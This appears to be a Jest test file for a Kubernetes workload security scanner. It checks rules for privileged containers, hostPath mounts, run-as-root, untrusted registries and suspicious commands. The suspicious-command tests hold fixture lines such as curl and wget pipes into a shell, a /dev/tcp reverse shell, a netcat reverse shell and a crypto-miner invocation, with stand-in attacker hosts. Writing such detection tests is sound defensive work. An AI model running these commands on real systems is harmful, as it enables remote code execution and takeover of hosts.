import { analyzeWorkloads, imageRegistry, registryAllowed, WORKLOAD_RULES } from '../../shared/findings/workloads.js';
import type { K8sObject, WorkloadFinding } from '../../shared/findings/types.js';

/** A pod spec whose second container is privileged. */
const privilegedSpec = () => ({
  serviceAccountName: 'runner',
  containers: [
    { name: 'ok', image: 'mcr.microsoft.com/app:1' },
    { name: 'bad', image: 'mcr.microsoft.com/app:1', securityContext: { privileged: true } },
  ],
});

function wrap(kind: string, spec: Record<string, unknown>): K8sObject {
  const metadata = { name: `${kind.toLowerCase()}-1`, namespace: 'apps' };
  switch (kind) {
    case 'Pod':
      return { apiVersion: 'v1', kind, metadata, spec };
    case 'CronJob':
      return { apiVersion: 'batch/v1', kind, metadata, spec: { schedule: '* * * * *', jobTemplate: { spec: { template: { spec } } } } };
    case 'PodTemplate':
      return { apiVersion: 'v1', kind, metadata, template: { spec } };
    default:
      return { apiVersion: 'apps/v1', kind, metadata, spec: { template: { spec } } };
  }
}

const line = (f: WorkloadFinding) => `${f.ruleId}|${f.severity}|${f.kind}/${f.name}|${f.containerName ?? ''}|${f.containerType ?? ''}|${f.fieldPath}`;

describe('every workload kind, with the exact field path', () => {
  test.each([
    ['Pod', 'spec.containers[1].securityContext.privileged'],
    ['Deployment', 'spec.template.spec.containers[1].securityContext.privileged'],
    ['DaemonSet', 'spec.template.spec.containers[1].securityContext.privileged'],
    ['StatefulSet', 'spec.template.spec.containers[1].securityContext.privileged'],
    ['ReplicaSet', 'spec.template.spec.containers[1].securityContext.privileged'],
    ['ReplicationController', 'spec.template.spec.containers[1].securityContext.privileged'],
    ['Job', 'spec.template.spec.containers[1].securityContext.privileged'],
    ['CronJob', 'spec.jobTemplate.spec.template.spec.containers[1].securityContext.privileged'],
    ['PodTemplate', 'template.spec.containers[1].securityContext.privileged'],
  ])('%s', (kind, path) => {
    const { findings } = analyzeWorkloads([wrap(kind, privilegedSpec())]);
    expect(findings.map(line)).toEqual([`workload.privileged|high|${kind}/${kind.toLowerCase()}-1|bad|container|${path}`]);
    expect(findings[0]).toMatchObject({ namespace: 'apps', serviceAccount: 'runner', title: 'Privileged container' });
  });

  test('objects without a pod spec are not workloads', () => {
    const { findings, analyzed, notes } = analyzeWorkloads([{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'c' }, data: {} }]);
    expect(findings).toEqual([]);
    expect(analyzed).toEqual({});
    expect(notes.map((n) => n.code)).toEqual(['no-workloads']);
  });
});

describe('the pod security checks (shared with the suspicious-pods source)', () => {
  const deploy = (spec: Record<string, unknown>) =>
    analyzeWorkloads([wrap('Deployment', spec)], { allowedRegistries: false })
      .findings.map(line)
      .sort();
  const P = 'spec.template.spec';

  test('host namespaces', () => {
    expect(deploy({ hostNetwork: true, hostPID: true, hostIPC: true, containers: [] })).toEqual([
      `workload.host-ipc|medium|Deployment/deployment-1|||${P}.hostIPC`,
      `workload.host-network|medium|Deployment/deployment-1|||${P}.hostNetwork`,
      `workload.host-pid|high|Deployment/deployment-1|||${P}.hostPID`,
    ]);
  });

  test('host root: sensitive hostPath, creation-capable hostPath, runtime socket', () => {
    const spec = {
      containers: [{ name: 'c', image: 'x', volumeMounts: [{ name: 'root', mountPath: '/host' }] }],
      volumes: [
        { name: 'cfg', configMap: { name: 'x' } },
        { name: 'root', hostPath: { path: '/' } },
        { name: 'sock', hostPath: { path: '/run/containerd/containerd.sock', type: 'Socket' } },
        { name: 'data', hostPath: { path: '/opt/data', type: 'DirectoryOrCreate' } },
      ],
    };
    expect(deploy(spec)).toEqual([
      `workload.host-path-creation|high|Deployment/deployment-1|||${P}.volumes[3].hostPath.type`,
      `workload.host-path|medium|Deployment/deployment-1|||${P}.volumes[1].hostPath.path`,
      `workload.host-path|medium|Deployment/deployment-1|||${P}.volumes[2].hostPath.path`,
      `workload.runtime-socket|high|Deployment/deployment-1|||${P}.volumes[2].hostPath.path`,
      `workload.sensitive-host-path|high|Deployment/deployment-1|||${P}.volumes[1].hostPath.path`,
      `workload.sensitive-host-path|high|Deployment/deployment-1|||${P}.volumes[2].hostPath.path`,
    ]);
  });

  test('init and ephemeral containers, escalation and capabilities', () => {
    const spec = {
      initContainers: [{ name: 'init', image: 'x', securityContext: { allowPrivilegeEscalation: true } }],
      containers: [{ name: 'main', image: 'x', securityContext: { capabilities: { add: ['NET_BIND_SERVICE', 'CAP_SYS_ADMIN'] } } }],
      ephemeralContainers: [{ name: 'debugger', image: 'x', securityContext: { privileged: true } }],
    };
    expect(deploy(spec)).toEqual([
      `workload.allow-privilege-escalation|medium|Deployment/deployment-1|init|init|${P}.initContainers[0].securityContext.allowPrivilegeEscalation`,
      `workload.dangerous-capability|high|Deployment/deployment-1|main|container|${P}.containers[0].securityContext.capabilities.add[1]`,
      `workload.privileged|high|Deployment/deployment-1|debugger|ephemeral|${P}.ephemeralContainers[0].securityContext.privileged`,
    ]);
  });

  test('negative: a hardened spec has no finding', () => {
    const spec = {
      securityContext: { runAsNonRoot: true, runAsUser: 1000 },
      containers: [
        {
          name: 'app',
          image: 'mcr.microsoft.com/app:1',
          command: ['/app'],
          args: ['--port', '8080'],
          securityContext: { allowPrivilegeEscalation: false, privileged: false, capabilities: { drop: ['ALL'] } },
        },
      ],
      volumes: [{ name: 'tmp', emptyDir: {} }],
    };
    expect(deploy(spec)).toEqual([]);
  });
});

describe('runs as root (low)', () => {
  test('runAsUser 0 and runAsNonRoot false, pod- and container-level', () => {
    const spec = {
      securityContext: { runAsUser: 0 },
      containers: [
        { name: 'a', image: 'x', securityContext: { runAsNonRoot: false } },
        { name: 'b', image: 'x', securityContext: { runAsUser: 0 } },
      ],
    };
    const { findings } = analyzeWorkloads([wrap('Pod', spec)], { allowedRegistries: false });
    expect(findings.map(line).sort()).toEqual([
      'workload.run-as-root|low|Pod/pod-1|a|container|spec.containers[0].securityContext.runAsNonRoot',
      'workload.run-as-root|low|Pod/pod-1|b|container|spec.containers[1].securityContext.runAsUser',
      'workload.run-as-root|low|Pod/pod-1|||spec.securityContext.runAsUser',
    ]);
  });

  test('negative: runAsUser 1000, runAsNonRoot true', () => {
    const spec = { securityContext: { runAsUser: 1000, runAsNonRoot: true }, containers: [{ name: 'a', image: 'x', securityContext: { runAsUser: 1001 } }] };
    expect(analyzeWorkloads([wrap('Pod', spec)], { allowedRegistries: false }).findings).toEqual([]);
  });
});

describe('suspicious commands (medium)', () => {
  const cmd = (container: Record<string, unknown>) =>
    analyzeWorkloads([wrap('CronJob', { containers: [{ name: 'c', image: 'mcr.microsoft.com/x', ...container }] })]).findings.map(
      (f) => `${f.ruleId}|${f.fieldPath}|${f.details.split(':')[0]}`,
    );
  const J = 'spec.jobTemplate.spec.template.spec.containers[0]';

  test.each([
    [{ command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/x.sh | sh'] }, `${J}.command[2]`, 'download piped into a shell'],
    [{ command: ['/bin/sh', '-c'], args: ['wget -qO- https://evil.example/p | bash'] }, `${J}.args[0]`, 'download piped into a shell'],
    [{ args: ['echo Y3VybCBldmls | base64 -d | sh'] }, `${J}.args[0]`, 'base64-decoded script piped into a shell'],
    [{ command: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.1/4444 0>&1'] }, `${J}.command[2]`, 'reverse shell through /dev/tcp'],
    [{ command: ['nc', '198.51.100.1', '4444', '-e', '/bin/sh'] }, `${J}.command`, 'netcat with command execution (reverse shell)'],
    [{ args: ['./xmrig', '-o', 'stratum+tcp://pool:3333'] }, `${J}.args[0]`, 'crypto miner'],
  ])('%j', (container, path, what) => {
    expect(cmd(container)).toEqual([`workload.suspicious-command|${path}|${what}`]);
  });

  test('negative: ordinary commands, curl without a shell', () => {
    expect(cmd({ command: ['sh', '-c', 'curl -fsS http://localhost:8080/healthz || exit 1'] })).toEqual([]);
    expect(cmd({ command: ['nginx', '-g', 'daemon off;'] })).toEqual([]);
  });
});

describe('images from registries outside the allow-list (medium)', () => {
  test('registry parsing', () => {
    expect(imageRegistry('nginx')).toBe('docker.io');
    expect(imageRegistry('library/nginx:1')).toBe('docker.io');
    expect(imageRegistry('ghcr.io/org/app@sha256:abc')).toBe('ghcr.io');
    expect(imageRegistry('localhost:5000/app')).toBe('localhost:5000');
    expect(imageRegistry('203.0.113.9:5000/miner')).toBe('203.0.113.9:5000');
    expect(registryAllowed('myacr.azurecr.io', ['*.azurecr.io'])).toBe(true);
    expect(registryAllowed('azurecr.io.evil.example', ['*.azurecr.io'])).toBe(false);
  });

  test('flagged with the default list and with a custom one; disabled with false', () => {
    const obj = wrap('Pod', {
      containers: [
        { name: 'a', image: 'mcr.microsoft.com/ok' },
        { name: 'b', image: 'registry.evil.example/tools:latest' },
      ],
    });
    expect(analyzeWorkloads([obj]).findings.map(line)).toEqual(['workload.untrusted-registry|medium|Pod/pod-1|b|container|spec.containers[1].image']);
    expect(analyzeWorkloads([obj], { allowedRegistries: ['registry.evil.example'] }).findings.map(line)).toEqual([
      'workload.untrusted-registry|medium|Pod/pod-1|a|container|spec.containers[0].image',
    ]);
    expect(analyzeWorkloads([obj], { allowedRegistries: false }).findings).toEqual([]);
  });
});

test('findings carry owner, uid and creation time', () => {
  const object: K8sObject = {
    ...wrap('Pod', privilegedSpec()),
    metadata: {
      name: 'web-7d9c-x',
      namespace: 'apps',
      uid: 'u-1',
      creationTimestamp: '2026-11-22T10:00:00Z',
      ownerReferences: [{ kind: 'ReplicaSet', name: 'web-7d9c', controller: true }],
    },
  };
  expect(analyzeWorkloads([object]).findings[0]).toMatchObject({ owner: 'ReplicaSet/web-7d9c', uid: 'u-1', createdAt: '2026-11-22T10:00:00Z' });
});

test('rule catalog ids are unique', () => {
  const ids = WORKLOAD_RULES.map((r) => r.id);
  expect(new Set(ids).size).toBe(ids.length);
  expect(ids.every((id) => id.startsWith('workload.'))).toBe(true);
});
